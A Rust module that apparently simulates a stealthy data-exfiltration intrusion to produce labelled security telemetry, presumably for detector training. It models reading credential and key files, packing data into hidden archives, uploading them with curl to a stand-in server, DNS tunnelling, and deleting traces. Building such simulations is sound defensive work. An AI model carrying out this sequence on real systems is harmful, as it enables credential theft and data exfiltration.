//! A quiet break-in: somebody logs in with a stolen key of the administrator, reads files, packs them, and sends the
//! archives out, within about an hour. Nothing is installed.
//!
//! Events of the shell and its children are `evil` and `sus`. Those of sshd at the login, and of the service manager that
//! it starts, are `sus` only.

use super::call::NO_SUCH_FILE;
use super::files::{CREATE, READ};
use super::host::Host;
use super::names;
use super::process::Task;
use super::remote::{ADMIN, LoginLabels, Session};
use super::services::Services;
use super::text::Label;
use super::tools::{self, Tool};

const LABELS: LoginLabels = LoginLabels {
    monitor: Label::Suspicious,
    manager: Label::Suspicious,
    shell: Label::Evil,
};
const SECOND: u64 = 1_000_000;

/// The number of commands that look for files.
const LOOKS: u32 = 20;
/// The number of archives.
const ARCHIVES: u32 = 8;
/// The files that are worth reading.
const SECRETS: [&str; 8] = [
    "/home/ubuntu/.aws/credentials",
    "/home/ubuntu/.ssh/id_rsa",
    "/home/ubuntu/.ssh/known_hosts",
    "/home/ubuntu/.bash_history",
    "/srv/app/config/database.yml",
    "/srv/app/config/secrets.yml",
    "/etc/passwd",
    "/etc/hosts",
];
/// The commands that look for files.
static LOOKING: [&Tool; 5] = [
    &tools::LS,
    &tools::FIND,
    &tools::CAT,
    &tools::GREP,
    &tools::DU,
];

/// The state of the break-in between two steps.
#[derive(Default)]
pub(super) struct Exfiltration {
    session: Option<Session>,
    /// The number of steps that are done since the login.
    done: u32,
}

impl Exfiltration {
    /// Runs one step. Returns the mean time until the next one, in microseconds, or `None` after the last.
    pub(super) fn step(&mut self, host: &mut Host<'_, '_>, services: &Services) -> Option<u64> {
        let Some(session) = self.session else {
            self.session = Some(host.log_in(services, ADMIN, LABELS));
            return Some(30 * SECOND);
        };
        let step = self.done;
        self.done += 1;
        if step >= LOOKS / 2 {
            // What is found is sent out slowly from here on, beside the archives.
            let queries = host.resolver.random.between(1, 4);
            host.tunnel_names(session.shell, queries);
        }
        const PACKED: u32 = LOOKS + ARCHIVES;
        const SENT: u32 = PACKED + ARCHIVES;
        match step {
            ..LOOKS => {
                look(host, session.shell);
                Some(90 * SECOND)
            }
            LOOKS..PACKED => {
                pack(host, session.shell, step - LOOKS);
                Some(90 * SECOND)
            }
            PACKED..SENT => {
                send(host, session.shell, step - PACKED);
                Some(120 * SECOND)
            }
            _ => {
                host.log_out(services, session, ADMIN);
                None
            }
        }
    }
}

/// Looks for files and reads one.
fn look(host: &mut Host<'_, '_>, shell: Task) {
    let tool = host.random.pick(&LOOKING);
    let secret = host.random.pick(&SECRETS);
    host.command_with(shell, tool, &[secret], |host, task| {
        host.read(task, secret);
        for file in 0..host.random.between(2, 12) {
            host.lstat(task, &format!("/srv/data/{file:03}"), true);
        }
    });
}

fn archive(number: u32) -> String {
    format!("/var/tmp/.cache-{number}.tgz")
}

/// Packs some files into an archive.
fn pack(host: &mut Host<'_, '_>, shell: Task, number: u32) {
    let to = archive(number);
    host.command_with(shell, &tools::TAR, &["czf", &to], |host, task| {
        host.write(task, &to, CREATE);
        let gzip = host.fork(task);
        host.become_tool(gzip, &tools::GZIP, &[]);
        for file in 0..host.random.between(20, 50) {
            let path = format!("/srv/data/{:03}", 50 * number + file);
            host.lstat(task, &path, true);
            host.read(task, &path);
        }
        host.exit(gzip);
    });
}

/// Sends an archive to a server and removes it.
fn send(host: &mut Host<'_, '_>, shell: Task, number: u32) {
    let from = archive(number);
    host.command_with(shell, &tools::CURL, &["-sT", &from], |host, task| {
        host.open_fails(task, "/home/ubuntu/.curlrc", READ, NO_SUCH_FILE);
        host.resolve_name(task, names::DROP_HOST);
        let fd = host.socket(task, "AF_INET", "SOCK_STREAM");
        let server = host.internet([203, 0, 113, 24], 443);
        host.connect(task, fd, &server, 0);
        host.read(task, &from);
        host.close(task, fd);
    });
    host.command_with(shell, &tools::RM, &["-f", &from], |host, task| {
        host.unlinkat(task, "/var/tmp", &from["/var/tmp/".len()..]);
    });
}
